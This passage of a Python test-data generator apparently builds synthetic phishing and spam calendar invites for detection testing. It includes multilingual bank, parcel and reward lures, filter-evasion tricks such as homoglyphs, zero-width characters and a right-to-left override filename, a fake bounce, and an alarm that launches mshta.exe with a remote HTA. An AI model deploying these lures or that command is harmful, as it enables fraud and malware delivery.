             mutate=lambda r, ev, arr, fmt: setattr(ev, "attach", [f"ATTACH;FMTTYPE=application/pdf:{fmt['link']}"]), lk="cloud", layout="mixed_plain_attach", note="ATTACH;VALUE=URI phishing link"),
        dict(ch="inline", summ="Pre-approved loan: €25.000 at 1.9%", desc="Congratulations, you are pre-approved for a €25,000 personal loan. Accept the offer: {link}", layout="inline_b64", lang="en", note="whole message is a base64 text/calendar"),
        dict(ch="workmail", html=fashion, summ="Wallet verification required", desc="Your MetaMask wallet must be verified to stay active: {link}", lk="hyphen", note="unrelated fashion newsletter body, .ics as octet-stream"),
        dict(ch="php_shared", text="Hi", summ="Reminder", desc="", org_cn="Claim $500 Walmart card now", mutate=lambda r, ev, arr, fmt: setattr(ev, "url", fmt["link"]), note="lure in ORGANIZER CN and URL property"),
        dict(ch="exo", text="", summ="Meeting", desc="", note="empty Outlook body; the phishing link is only in X-ALT-DESC",
             mutate=lambda r, ev, arr, fmt: setattr(ev, "x_alt_desc", f'<html><body><p>Please review the updated document before the meeting:</p><a href="{fmt["link"]}">Review_Document.docx</a></body></html>')),
        dict(ch="ses", text="Thank you for subscribing to our updates.", summ="Update", desc="", layout="mixed_alt_attach",
             mutate=lambda r, ev, arr, fmt: setattr(ev, "alarms", [Alarm(trigger="-PT1M", description=f"URGENT: your parcel is on hold, pay customs fee at {fmt['link']}")]), note="lure only in VALARM DESCRIPTION"),
        dict(ch="vps", text=".", summ="Hi 😘", desc="I'm waiting for you, see my photos {link}",
             mutate=lambda r, ev, arr, fmt: (setattr(ev, "comment", "Private date invitation"), setattr(ev, "categories", "DATING,PRIVATE")), layout="mixed_plain_attach", note="dating lure in SUMMARY/DESCRIPTION/COMMENT/CATEGORIES"),
        dict(ch="php", html="<div><br data-mce-bogus=\"1\"></div>", summ="http://{sdom}/promo?id={ref}", desc="", layout="mixed_html_attach", note="URL as SUMMARY, empty HTML body (cf. rspamd ics test)"),
        dict(ch="dotnet", text="Meeting notes from Tuesday attached.", lang="de", summ="Kundenumfrage: 500 € Gutschein", desc="Vielen Dank für Ihre Treue! Nehmen Sie an unserer Umfrage teil und erhalten Sie einen Gutschein über 500 €: {link}"),
        dict(ch="python", text="Bonjour,", lang="fr", summ="Offre de prêt personnel", desc="Prêt de 5 000 € à 50 000 € sans justificatif, réponse en 24h. Demande : {link}\nTél : {phone}", phone="01 99 00 42 17"),
        dict(ch="php", html="<html><body></body></html>", summ="Your package could not be delivered", desc="Schedule redelivery and pay the $1.99 fee: {link}", layout="mixed_pdf_named", filename="invite.ics",
             note="calendar declared as application/pdf but named .ics (cf. phishing_pot sample-5916/6059)"),
        dict(ch="vps", text=None, summ="Gift card balance: $250", desc="Check your gift card balance and redeem: {link}", layout="mixed_textplain_named", filename="event_2291.ics",
             note="calendar attached as text/plain named .ics (Deutsche Bahn-like layout)"),
    ]
    out += fake_dsn(r)
    for it in P:
        arr = arrival_between(r, (2018, 1, 1), (2026, 10, 31))
        to = rcpt(r)
        lang = it.get("lang", "en")
        link = phish_url(r, r.choice(["reward", "wallet", "pharma", "account", "parcel", "loan"]), it.get("lk"))
        fmt = dict(link=link, phone=it.get("phone") or us_phone(r), ref=r.hexs(8), sdom=junk_domain(r), n=r.randint(10, 300))
        frm = sender_for(r, it["ch"], r.choice(["Service", "Info", "Team", "Events", "Calendar", ""]))
        org = (it.get("org_cn"), frm[1]) if it.get("org_cn") else frm
        ev = spam_event(r, arr, summary=it["summ"].format(**fmt), description=it["desc"].format(**fmt) or None, organizer=org, attendee=to, tz=TZL.get(lang))
        if it.get("mutate"):
            it["mutate"](r, ev, arr, fmt)
        subj = r.choice(["Hello", "Invitation", "Re:", "Update", "(no subject)", "Event", "Newsletter", "Hi", "Information", "Termin", "Meeting"]) if it["ch"] != "exo" else "Meeting"
        html = it.get("html")
        if html:
            html = html.format(**fmt)
        if it["ch"] == "exo":
            b = send(r, arr, "exo", frm=frm, to=to, ev=ev, text="")
        else:
            kw = {}
            if it.get("layout"):
                kw["layout"] = it["layout"]
            if it.get("filename"):
                kw["filename"] = it["filename"]
            text = it.get("text")
            if "text" in it and text is None and html is None:
                kw["layout"] = it.get("layout", "mixed_cal_only")
            b = send(r, arr, it["ch"], frm=frm, to=to, subject=subj, ev=ev, text=text, html=html, lang=lang, **kw)
        out.append((b, f"{it['ch']}: body empty or unrelated ('{(it.get('text') or '')[:20]}'), lure only in the .ics" + (f"; {it['note']}" if it.get("note") else "")))
    return out


def fake_dsn(r):
    """A bounce that was never a bounce: multipart/report whose 'returned message' is a spam invitation."""
    from dc_lib import Part, leaf, multipart, boundary, rfc2822_date
    from dc_clients import assemble
    from dc_route import route
    arr = arrival_between(r, (2018, 1, 1), (2026, 10, 31))
    to = rcpt(r)
    link = phish_url(r, "prize")
    frm = sender_for(r, "php", "Rewards")
    ev = spam_event(r, arr, summary="You have (1) pending reward", description=f"Claim your reward before it expires: {link}", organizer=frm, attendee=to)
    inner_ics = vcal([ev], "REQUEST", "php", prodid="-//hacksw/handcal//NONSGML v1.0//EN", stamp=arr)
    b0 = boundary(r, "random")
    inner = (f"From: {frm[0]} <{frm[1]}>\r\nTo: {to[1]}\r\nSubject: Reward notification\r\nDate: {rfc2822_date(arr - dt.timedelta(minutes=5))}\r\n"
             f"Message-ID: <{r.hexs(20)}@{frm[1].split('@')[1]}>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"{b0}\"\r\n\r\n"
             f"--{b0}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello\r\n--{b0}\r\nContent-Type: text/calendar; charset=utf-8; method=REQUEST\r\n"
             f"Content-Transfer-Encoding: 7bit\r\n\r\n{inner_ics}--{b0}--\r\n")
    host = f"mail.{r.letters(6)}.example.org"
    parts = [leaf("text/plain; charset=us-ascii", f"This is the mail system at host {host}.\n\nI'm sorry to have to inform you that your message could not\nbe delivered to one or more recipients. It's attached below.\n\n<{freemail_addr(r)}>: host mx.example.com said: 550 5.1.1 User unknown\n", "7bit",
                  extra=[("Content-Description", "Notification")]),
             leaf("message/delivery-status", f"Reporting-MTA: dns; {host}\nArrival-Date: {rfc2822_date(arr - dt.timedelta(minutes=4))}\n\nFinal-Recipient: rfc822; {freemail_addr(r)}\nAction: failed\nStatus: 5.1.1\n", "7bit",
                  extra=[("Content-Description", "Delivery report")]),
             Part([("Content-Type", "message/rfc822"), ("Content-Description", "Undelivered Message")], inner.rstrip("\r\n"))]
    body = multipart("report", parts, boundary(r, "random"), ct_extra="; report-type=delivery-status")
    hdrs = [("Date", rfc2822_date(arr - dt.timedelta(seconds=30))), ("From", f"MAILER-DAEMON@{host} (Mail Delivery System)"), ("Subject", "Undelivered Mail Returned to Sender"),
            ("To", to[1]), ("Message-Id", f"<{r.hexs(12).upper()}@{host}>"), ("Auto-Submitted", "auto-replied")]
    rt = route(r, "vps", arr=arr, rcpt=to[1], from_addr=f"MAILER-DAEMON@{host}", env_from="", host=host)
    rt["env_from"] = ""
    b = assemble(r, arr=arr, rcpt=to[1], rt=rt, from_addr=f"postmaster@{host}", client_headers=hdrs, body=body, spf="none")
    return [(b, "fake DSN (multipart/report) whose 'returned message' is a reward-lure invitation, the calendar only inside message/rfc822; the recipient never sent the original")]


# ----------------------------------------------------------------------------------------------- nagging
def nagging(r):
    out = []

    def mk(ch, summ, desc, note, mutate, lang="en", layout=None, tzz=None, win=((2017, 1, 1), (2026, 10, 31)), gauth=None):
        arr = arrival_between(r, *win)
        to = rcpt(r)
        link = phish_url(r, r.choice(["bonus", "wallet", "prize", "pharma"]))
        ph = us_phone(r)
        frm = sender_for(r, ch, r.choice(["Reminder Service", "Alerts", "Rewards", "Support", "Calendar"]))
        ev = spam_event(r, arr, summary=summ.format(link=link, phone=ph), description=desc.format(link=link, phone=ph), organizer=frm, attendee=to, tz=tzz or TZL.get(lang))
        evs = mutate(r, ev, arr, to, frm) or [ev]
        if ch == "google":
            b = google_mail(r, arr=arr, org=frm, rcpt=to, ev=evs[0], auth=gauth or "workspace_nospf", alarm=False)
        elif ch in ("icloud", "outlookcom", "yahoo") and len(evs) == 1:
            b = send(r, arr, ch, frm=frm, to=to, ev=evs[0], subject=summ, text=evs[0].description)
        else:
            from dc_common import SPAM_PRODIDS
            ics = vcal(evs, "REQUEST", "php" if ch == "php" else "generic", prodid=r.choice(SPAM_PRODIDS["php"] + SPAM_PRODIDS["node"] + SPAM_PRODIDS["python"]),
                       stamp=arr - dt.timedelta(seconds=30))
            b = send(r, arr, ch, frm=frm, to=to, subject=evs[0].summary, ev=evs[0], ics=ics, text=evs[0].description or "Reminder", html=None, layout=layout)
        out.append((b, f"{ch}: {note}"))

    def many_alarms(r, ev, arr, to, frm):
        ev.alarms = [Alarm(trigger=f"-PT{m}M", description=ev.summary) for m in range(1, 11)]

    def repeat_alarm(r, ev, arr, to, frm):
        ev.alarms = [Alarm(trigger="-PT2M", repeat=100, duration="PT1M", description=ev.summary)]

    def email_alarm(r, ev, arr, to, frm):
        ev.alarms = [Alarm(trigger="-PT10M", action="EMAIL", summary="Your bonus expires in 10 minutes", description=ev.description,
                           attendees=[to[1], freemail_addr(r)], repeat=20, duration="PT5M")]

    def audio_alarm(r, ev, arr, to, frm):
        ev.alarms = [Alarm(trigger="-PT1M", action="AUDIO", description=None, attach=f"ATTACH;FMTTYPE=audio/mpeg:https://{junk_domain(r)}/alert.mp3", repeat=30, duration="PT30S"),
                     Alarm(trigger="PT0M", related="START", action="DISPLAY", description=ev.summary)]

    def procedure_alarm(r, ev, arr, to, frm):
        ev.alarms = [Alarm(trigger="-PT5M", action="PROCEDURE", description=None, attach=f"ATTACH;VALUE=URI:file:///C:/Windows/System32/mshta.exe%20https://{junk_domain(r)}/u.hta")]

    def minutely(r, ev, arr, to, frm):
        ev.rrule = "FREQ=MINUTELY;INTERVAL=5"
        ev.alarms = [Alarm(trigger="-PT1M", description=ev.summary)]

    def hourly(r, ev, arr, to, frm):
        ev.rrule = "FREQ=HOURLY"
        ev.end = ev.start + dt.timedelta(minutes=10)
        ev.alarms = [Alarm(trigger="PT0S", description=ev.summary)]

    def daily_count(r, ev, arr, to, frm):
        ev.rrule = "FREQ=DAILY;COUNT=3650"
        ev.alarms = [Alarm(trigger="-P0DT0H0M0S", description="This is an event reminder")]

    def far_future(years):
        def f(r, ev, arr, to, frm):
            d = ev.end - ev.start
            ev.start = ev.start.replace(year=ev.start.year + years) if years < 50 else ev.start.replace(year=2099)
            ev.end = ev.start + d
            ev.alarms = [Alarm(trigger="-P1D"), Alarm(trigger="-PT1H")]
        return f

    def past(r, ev, arr, to, frm):
        d = ev.end - ev.start
        ev.start = ev.start - dt.timedelta(days=365 * 3 + r.randint(1, 100))
        ev.end = ev.start + d
        ev.rrule = "FREQ=WEEKLY"
        ev.alarms = [Alarm(trigger="-PT15M")]

    def imminent(r, ev, arr, to, frm):
        ev.start = arr + dt.timedelta(minutes=3)
        ev.end = ev.start + dt.timedelta(minutes=15)
        ev.alarms = [Alarm(trigger="-PT5M", description="Starting now!"), Alarm(trigger="PT0M", description="Starting now!")]

    def flood(r, ev, arr, to, frm):
        evs = []
        for k in range(25):
            e = Ev(**{**ev.__dict__})
            e.uid = r.uuid4()
            e.start = ev.start + dt.timedelta(minutes=15 * k)
            e.end = e.start + dt.timedelta(minutes=15)
            e.alarms = [Alarm(trigger="-PT1M", description=ev.summary)]
            evs.append(e)
        return evs

    def weekly_many(r, ev, arr, to, frm):
        ev.rrule = "FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU;BYHOUR=8,10,12,14,16,18,20"
        ev.end = ev.start + dt.timedelta(minutes=5)

    def overlap(r, ev, arr, to, frm):
        ev.end = None
        ev.duration = "PT1M"
        ev.rrule = "FREQ=MINUTELY;COUNT=1440"

    def absolute(r, ev, arr, to, frm):
        ev.alarms = [Alarm(trigger=fmt_utc(ev.start - dt.timedelta(minutes=m)), trigger_value="DATE-TIME", description=ev.summary) for m in range(0, 30, 2)]

    def rdates(r, ev, arr, to, frm):
        ev.rdates = [ev.start + dt.timedelta(hours=6 * k) for k in range(1, 61)]
        ev.alarms = [Alarm(trigger="-PT5M")]

    def after_end(r, ev, arr, to, frm):
        ev.alarms = [Alarm(trigger="PT5M", related="END", repeat=50, duration="PT2M", description=ev.description)]

    mk("php", "🔥 Bonus expires soon", "Your casino bonus of 500 free spins expires today: {link}", "ten DISPLAY alarms at -1..-10 minutes", many_alarms)
    mk("ses", "Claim your reward", "Reward pending – claim: {link}", "alarm with REPEAT:100 DURATION:PT1M", repeat_alarm, layout="mixed_alt_attach")
    mk("sendgrid", "Bonus expires in 10 minutes", "Deposit now and double your bonus: {link}", "EMAIL alarm to external addresses, REPEAT 20", email_alarm)
    mk("python", "Security alert – call support", "Your computer is infected. Call {phone} now.", "AUDIO alarm with remote mp3, REPEAT 30, plus alarm at start", audio_alarm)
    mk("inline", "Windows Update required", "Critical update pending.", "deprecated PROCEDURE alarm pointing at mshta.exe with a remote HTA", procedure_alarm)
    mk("node", "Crypto signal", "New trading signal every 5 minutes: {link}", "RRULE FREQ=MINUTELY;INTERVAL=5 unbounded with alarm", minutely)
    mk("php_shared", "Hot singles online now", "Chat now: {link}", "RRULE FREQ=HOURLY unbounded, alarm at start", hourly)
    mk("google", "Daily reward check-in", "Check in daily to collect your reward: {link}", "Google invite with RRULE DAILY COUNT=3650 and alarm", daily_count)
    mk("dotnet", "Your reservation 2099", "Confirm your reservation: {link}", "event placed in 2099", far_future(99))
    mk("php", "Membership renewal", "Your membership renews automatically. Cancel: {phone}", "event eight years ahead with day/hour alarms", far_future(8))
    mk("ses", "Account statement", "View statement: {link}", "past-dated weekly series starting three years before arrival", past)
    mk("icloud", "Starting now: live giveaway", "Join the live giveaway now: {link}", "event starts three minutes after arrival, alarms now", imminent, win=((2016, 11, 1), (2018, 12, 31)))
    mk("yahoo", "Flash deal", "Flash deal every 15 minutes: {link}", "25 VEVENTs in one VCALENDAR, 15 minutes apart, each with an alarm", flood, layout="alt_cal")
    mk("outlookcom", "Pill reminder – order refill", "Refill your prescription online: {link}", "weekly RRULE expanded 7 times a day every day", weekly_many)
    mk("vps", "Ping", "Ping {link}", "one-minute events with DURATION repeating every minute 1440 times", overlap)
    mk("php", "Last chance!", "Last chance to claim: {link}", "fifteen absolute DATE-TIME alarms two minutes apart", absolute)
    mk("sendgrid", "Lottery draw", "Watch the draw: {link}", "60 RDATEs six hours apart", rdates)
    mk("python", "Refund available", "Call {phone} to receive your refund", "alarm 5 minutes after END, REPEAT 50", after_end)
    # a VTODO instead of a VEVENT: task with a due date, repeating alarm
    arr = arrival_between(r, (2019, 1, 1), (2026, 10, 31))
    to = rcpt(r)
    frm = sender_for(r, "php", "Task Reminder")
    link = phish_url(r, "account")
    due = arr + dt.timedelta(hours=2)
    todo = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//hacksw/handcal//NONSGML v1.0//EN", "METHOD:REQUEST", "BEGIN:VTODO",
            f"UID:{r.uuid4()}", f"DTSTAMP:{fmt_utc(arr)}", f"DUE:{fmt_utc(due)}", "SUMMARY:ACTION REQUIRED: verify your account",
            f"DESCRIPTION:Your account will be closed unless you verify today: {link}", f"ORGANIZER;CN=Security:mailto:{frm[1]}",
            f"ATTENDEE;RSVP=TRUE:mailto:{to[1]}", "PRIORITY:1", "STATUS:NEEDS-ACTION", "BEGIN:VALARM", "ACTION:DISPLAY", "TRIGGER:-PT1H",
            "REPEAT:30", "DURATION:PT2M", "DESCRIPTION:Verify your account now", "END:VALARM", "END:VTODO", "END:VCALENDAR"]
    from dc_lib import ics_text
    b = send(r, arr, "php", frm=frm, to=to, subject="Action required", ev=None, ics=ics_text(todo), text="Please complete the task below.", layout="mixed_plain_attach")
    out.append((b, "php: VTODO (not VEVENT) due in two hours with a repeating alarm every 2 minutes"))
    return out


# ----------------------------------------------------------------------------------------------- obfuscated
ZW = "\u200b"
ZWNJ = "\u200c"
ZWJ = "\u200d"
SHY = "\u00ad"


def vs_tag(s):
    """Insert variation-selector-supplement characters (U+E0139) like phishing_pot sample-5678."""
    return "".join(c + ("\U000E0139" if c.isalpha() and i % 2 else "") for i, c in enumerate(s))


def tags(s):
    return "".join(c + chr(0xE0000 + ord(c.lower())) if c.isalpha() else c for c in s)


CYR = str.maketrans({"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "y": "у", "A": "А", "E": "Е", "O": "О", "P": "Р", "C": "С", "H": "Н", "K": "К", "M": "М", "T": "Т", "B": "В", "S": "Ѕ", "s": "ѕ", "i": "і"})
GRK = str.maketrans({"N": "Ν", "P": "Ρ", "A": "Α", "E": "Ε", "o": "ο", "T": "Τ", "i": "ι", "K": "Κ", "X": "Χ"})


def fullwidth(s):
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s)


def mathbold(s):
    out = ""
    for c in s:
        if "A" <= c <= "Z":
            out += chr(0x1D400 + ord(c) - 65)
        elif "a" <= c <= "z":
            out += chr(0x1D41A + ord(c) - 97)
        else:
            out += c
    return out


def entities(s):
    return "".join(f"&#{ord(c)};" if c not in "<>/\"= " else c for c in s)


def obfuscated(r):
    out = []

    def go(ch, fname, subj, summ, desc, note, html=None, text=None, layout=None, lang="en", name_enc="B", subj_enc="B", extra=None, mutate=None, win=((2018, 1, 1), (2026, 10, 31)), **kw):
        arr = arrival_between(r, *win)
        to = rcpt(r)
        link = phish_url(r, ascii_fold(fname)[:8] or "acct")
        fmt = dict(link=link, phone=us_phone(r), name=to[1].split("@")[0].split(".")[0].capitalize())
        frm = sender_for(r, ch, fname)
        ev = spam_event(r, arr, summary=summ.format(**fmt), description=desc.format(**fmt), organizer=frm, attendee=to, tz=TZL.get(lang))
        if mutate:
            mutate(r, ev, arr, fmt)
        if ch == "google":
            b = google_mail(r, arr=arr, org=frm, rcpt=to, ev=ev, lang=lang if lang in ("en", "de") else "en", auth=kw.get("gauth", "workspace_nospf"))
        elif ch in ("outlookcom", "yahoo", "icloud"):
            b = send(r, arr, ch, frm=frm, to=to, subject=subj.format(**fmt), ev=ev, text=(text or desc).format(**fmt))
        else:
            b = send(r, arr, ch, frm=frm, to=to, subject=subj.format(**fmt), ev=ev, html=html.format(**fmt) if html else None, text=text.format(**fmt) if text else None,
                     layout=layout, lang=lang, name_enc=name_enc, subj_enc=subj_enc, **{k: v for k, v in kw.items() if k != "gauth"})
        out.append((b, f"{ch}: {note}"))

    cb = vs_tag("Coinbase")
    go("workmail", f"{vs_tag('Coinbase')} Wallet", f"Your {cb} Wa\U000E0139llet has not yet been verified", f"{cb} Wallet verification", f"Our system has shown that your {cb} Wallet has not yet been confirmed. Confirm here: {{link}}",
       "variation-selector characters (U+E0139) inside the brand in From, Subject and SUMMARY (cf. phishing_pot sample-5678)",
       html=f"<p>Our system has shown that your {cb} Wallet has not yet been confirmed.</p><p><a href=\"{{link}}\">Confirm Your Wallet</a></p>", name_enc="raw", subj_enc="raw")
    pp = "Pay" + ZW + "Pal"
    go("php", pp, f"{pp}: Your account has been limited", f"{pp} account limited", "Your " + pp + " account access has been limited. Restore: {link}",
       "zero-width space inside 'PayPal' in subject, display name and SUMMARY", html=f"<p>Dear customer,</p><p>Your {pp} account access has been limited.</p><p><a href=\"{{link}}\">Restore access</a></p>")
    ap = "Apple".translate(CYR)
    go("sendgrid", f"{ap} Support", f"{ap} ID: your account was locked", f"{ap} ID locked", f"Your {ap} ID has been locked. Unlock now: {{link}}",
       "Cyrillic homoglyphs in 'Apple' (а, р, е)", html=f"<p>Your {ap} ID has been locked for security reasons.</p><p><a href=\"{{link}}\">Unlock {ap} ID</a></p>")
    nf = "Netflix".translate(GRK).replace("N", "Ν")
    go("google", nf, "", f"{nf}: payment declined", f"Your {nf} membership is on hold. Update payment: {{link}}", "Greek Nu in 'Netflix'")
    go("python", "P a y P a l", "P a y P a l – s e c u r i t y  n o t i c e", "P a y P a l  s e c u r i t y  n o t i c e", "Y o u r  a c c o u n t  w i l l  b e  s u s p e n d e d. {link}",
       "letter-spacing ('P a y P a l') in summary and subject", text="P a y P a l\n\nY o u r  a c c o u n t  w i l l  b e  s u s p e n d e d.\n{link}")
    am = fullwidth("AMAZON")
    go("php_shared", am, f"{am} Prize: You won a $500 gift card", f"{am} $500 gift card", f"{am} loyalty draw – claim: {{link}}", "fullwidth Latin letters in 'AMAZON'",
       html=f"<h2>{am}</h2><p>Congratulations! Claim your $500 gift card.</p><a href=\"{{link}}\">CLAIM</a>")
    mm = mathbold("MetaMask")
    go("node", mm, f"{mm}: wallet suspension notice", f"{mm} suspension", f"Verify your seed phrase to avoid suspension: {{link}}", "mathematical bold letters in 'MetaMask'",
       html=f"<p><b>{mm}</b></p><p>Verify your seed phrase to avoid suspension.</p><p><a href=\"{{link}}\">Verify</a></p>")
    ms = "Mi" + SHY + "cro" + SHY + "soft"
    go("inline", ms, f"{ms} 365: password expires", f"{ms} 365 password expires today", f"Keep your password: {{link}}", "soft hyphens inside 'Microsoft', inline calendar only")
    ent_html = "<html><body>" + entities("Dear customer, your DHL parcel is on hold. Pay the customs fee of 1.99 EUR:") + ' <a href="{link}">' + entities("Pay now") + "</a></body></html>"
    go("ses", "DHL", "&#68;HL: parcel on hold", "DHL parcel on hold", "Pay customs fee: {link}", "HTML body written entirely as numeric character references", html=ent_html)
    go("php", "Bank Security", "Security notice", "Security notice", "Verify your online banking: {link}", "base64-only text/plain body, no HTML",
       text="Dear client,\nyour online banking access will expire. Verify your identity: {link}\nBank Security Team", layout="mixed_plain_attach", text_cte="base64")
    tg = tags("Norton")
    go("sendgrid", tg, f"{tg} renewal receipt", f"{tg} renewal", f"{tg} 360 renewed for $399.99. Cancel: {{phone}}", "Unicode TAG characters (U+E0000 block) inside 'Norton'",
       html=f"<p>{tg} 360 renewed for $399.99.</p><p>Cancel: {{phone}}</p>")
    rlo = "Rechnung_2025\u202efdp.ics"
    go("vps", "Buchhaltung", "Rechnung 2025", "Rechnung 2025 – offener Betrag", "Bitte begleichen Sie den offenen Betrag: {link}", "RIGHT-TO-LEFT OVERRIDE in the attachment filename (looks like .pdf)",
       text="Anbei die Rechnung.", layout="mixed_plain_attach", filename=rlo, lang="de")
    dhl = "D\u0332H\u0332L\u0332"
    go("python", dhl, f"{dhl} Express: delivery failed", f"{dhl} delivery failed", "Reschedule delivery: {link}", "combining low line on each letter of 'DHL'",
       html=f"<p>{dhl} Express</p><p>Delivery failed. Reschedule: <a href=\"{{link}}\">here</a></p>")
    sp = "Sparkasse".translate(CYR)
    go("google", sp, "", f"{sp}: pushTAN-Verfahren läuft ab", f"Ihr pushTAN-Verfahren läuft ab. Jetzt erneuern: {{link}}", "mixed Latin/Cyrillic in 'Sparkasse', German text", lang="de", gauth="gmail")
    qsubj = "".join("=%02X" % b for b in "Votre colis est bloqué".encode("utf-8"))
    go("php", "La Poste", "Votre colis est bloqué", "Votre colis est bloqué", "Payez les frais de 1,99 € : {link}", "every character of the subject quoted-printable encoded",
       html="<p>Votre colis est bloqué.</p><p><a href=\"{link}\">Payer 1,99 €</a></p>", subj_enc="Q", lang="fr")
    salad = " ".join(r.choice(["lorem", "quasi", "velit", "tempor", "garden", "river", "sunset", "mobile", "orange", "table"]) for _ in range(200))
    go("ses", "Rewards", "Your reward is waiting", "Reward waiting", "Claim reward: {link}", "hidden word-salad filler and image-only lure (bayes poisoning)",
       html=f'<html><body><a href="{{link}}"><img src="https://{junk_domain(r)}/i/{r.hexs(6)}.png" width="600" alt="Claim your reward"></a><div style="display:none">{salad}</div><font color="#ffffff" size="1">{salad[:600]}</font></body></html>')
    nt = "Nоrtоn".replace("o", "о")
    zw_phone = ZWJ.join("1-800-555-0177")
    go("outlookcom", nt, "", f"{nt} 360 – invoice", f"Your {nt} 360 subscription was renewed. Call {zw_phone} to cancel.", "Cyrillic o in 'Norton' and zero-width joiners inside the phone number",
       text=f"Your {nt} 360 subscription was renewed for $349.99.\nCall {zw_phone} to cancel.")

    def fold_split(r, ev, arr, fmt):
        ev.summary = "Pay" + "Pal account review"
    go("yahoo", "Service", "Account review", "PayPal account review", "Your P\\ayP\\al acc\\ount needs review: {link}", "backslash-escaped letters in DESCRIPTION ('P\\ayP\\al')", mutate=fold_split,
       text="Your PayPal account needs review: {link}")
    return out


# ----------------------------------------------------------------------------------------------- multilingual
def multilingual(r):
    M = [
        dict(ch="php", lang="de", fname="Sparkasse Online", brand="sparkasse", summ="Wichtig: Ihr pushTAN-Verfahren läuft ab",
             paras=["Sehr geehrte Kundin, sehr geehrter Kunde,", "aufgrund der neuen EU-Zahlungsrichtlinie (PSD2) muss Ihr pushTAN-Verfahren bis zum {date} neu registriert werden.", "Ohne Aktualisierung wird Ihr Online-Banking-Zugang vorübergehend gesperrt."],
             btn="Jetzt aktualisieren", send=dict(charset="iso-8859-1")),
        dict(ch="google", lang="de", fname="DHL Paket", brand="dhl", summ="Ihr Paket wartet: Zollgebühr 2,99 € offen",
             desc="Hallo {name},\nIhr Paket (Sendungsnummer 00340434{n}) konnte nicht zugestellt werden, da eine Zollgebühr von 2,99 € offen ist.\nBitte bezahlen Sie bis {date}: {link}\nIhr DHL Team"),
        dict(ch="ses", lang="nl", fname="Belastingdienst", brand="belastingdienst", summ="Uw teruggave van €412,50 staat klaar",
             paras=["Geachte heer/mevrouw,", "Na controle van uw aangifte inkomstenbelasting heeft u recht op een teruggave van €412,50.", "Vraag de teruggave uiterlijk {date} aan via DigiD."], btn="Teruggave aanvragen"),
        dict(ch="sendgrid", lang="nl", fname="ING", brand="ing", summ="Uw betaalpas verloopt – vraag een nieuwe aan",
             paras=["Beste klant,", "Uw huidige betaalpas verloopt binnenkort. Vraag vandaag nog kosteloos een nieuwe pas aan.", "Let op: na {date} kunt u niet meer pinnen."], btn="Nieuwe pas aanvragen"),
        dict(ch="php_shared", lang="fr", fname="Assurance Maladie", brand="ameli", summ="Remboursement de 136,80 € en attente",
             paras=["Madame, Monsieur,", "Après vérification, vous pouvez bénéficier d'un remboursement de 136,80 €.", "Pour le recevoir, mettez à jour vos coordonnées bancaires avant le {date}."], btn="Recevoir mon remboursement",
             send=dict(charset="iso-8859-1")),
        dict(ch="google", lang="fr", fname="Colissimo", brand="colissimo", summ="Votre colis est en attente de livraison",
             desc="Bonjour,\nVotre colis n° 6A{n}FR n'a pas pu être livré : adresse incomplète.\nReprogrammez la livraison (frais de 1,45 €) : {link}\nColissimo"),
        dict(ch="ses", lang="es", fname="Agencia Tributaria", brand="aeat", summ="Devolución pendiente: 328,40 €",
             paras=["Estimado contribuyente:", "Tras revisar su declaración de la renta, le corresponde una devolución de 328,40 €.", "Confirme sus datos bancarios antes del {date}."], btn="Solicitar devolución"),
        dict(ch="python", lang="es", fname="Correos", brand="correos", summ="Su paquete está retenido en aduanas",
             paras=["Estimado cliente:", "Su envío con número PQ4{n}ES está retenido a la espera del pago de tasas (2,99 €).", "Si no se abona en 48 horas, será devuelto al remitente."], btn="Pagar ahora"),
        dict(ch="php", lang="it", fname="Poste Italiane", brand="poste", summ="Il tuo conto BancoPosta è stato sospeso",
             paras=["Gentile cliente,", "abbiamo rilevato un accesso anomalo al tuo conto BancoPosta. Per motivi di sicurezza il conto è stato temporaneamente sospeso.", "Riattivalo entro il {date}."], btn="Riattiva conto"),
        dict(ch="outlookcom", lang="it", fname="INPS Servizi", brand="inps", summ="Bonus 550 euro: domanda in scadenza",
             desc="Gentile utente,\nrisulti idoneo al bonus di 550 euro previsto per i lavoratori part-time. La domanda scade il {date}.\nCompila il modulo: {link}\nINPS"),
        dict(ch="sendgrid", lang="br", fname="Receita Federal", brand="receita", summ="Seu CPF possui pendências – regularize",
             paras=["Prezado(a) contribuinte,", "Identificamos pendências no seu CPF que podem levar ao bloqueio. Regularize até {date} para evitar multa.", "Consulte a situação do seu CPF."], btn="Regularizar agora"),
        dict(ch="php_shared", lang="pt", fname="CTT Expresso", brand="ctt", summ="A sua encomenda está retida",
             paras=["Caro cliente,", "A sua encomenda RR{n}PT encontra-se retida. Para libertar a entrega é necessário o pagamento de 1,89 €.", "Caso contrário, será devolvida ao remetente."], btn="Pagar e agendar entrega"),
        dict(ch="php", lang="pl", fname="InPost", brand="inpost", summ="Twoja paczka czeka – dopłata 1,99 zł",
             paras=["Dzień dobry,", "Twoja paczka nie może zostać dostarczona do Paczkomatu z powodu niedopłaty 1,99 zł.", "Dopłać do {date}, w przeciwnym razie paczka wróci do nadawcy."], btn="Zapłać teraz",
             send=dict(charset="iso-8859-2")),
        dict(ch="google", lang="pl", fname="mBank", brand="mbank", summ="Wymagana weryfikacja konta",
             desc="Szanowny Kliencie,\nze względów bezpieczeństwa Twoje konto zostało czasowo zablokowane. Potwierdź swoje dane: {link}\nZespół mBanku"),
        dict(ch="php", lang="ru", fname="Госуслуги", brand="gosuslugi", summ="Ваша учётная запись Госуслуг будет заблокирована",
             paras=["Уважаемый пользователь!", "Обнаружена подозрительная активность в вашей учётной записи.", "Подтвердите данные до {date}, иначе доступ будет ограничен."], btn="Подтвердить",
             send=dict(charset="koi8-r")),
        dict(ch="yahoo", lang="ru", fname="Фонд компенсаций", brand="kompensacia", summ="Вам начислена компенсация 148 500 руб.",
             desc="Здравствуйте!\nПо решению фонда вам начислена компенсация в размере 148 500 руб. Для получения оплатите комиссию за перевод.\nПодробнее: {link}"),
        dict(ch="php", lang="ja", fname="Amazon.co.jp", brand="amazon", summ="【重要】お支払い方法を更新してください",
             paras=["いつもAmazonをご利用いただきありがとうございます。", "ご登録のお支払い方法に問題があり、ご注文の処理ができませんでした。", "24時間以内にお支払い方法を更新しない場合、アカウントは一時停止されます。"], btn="お支払い方法を更新",
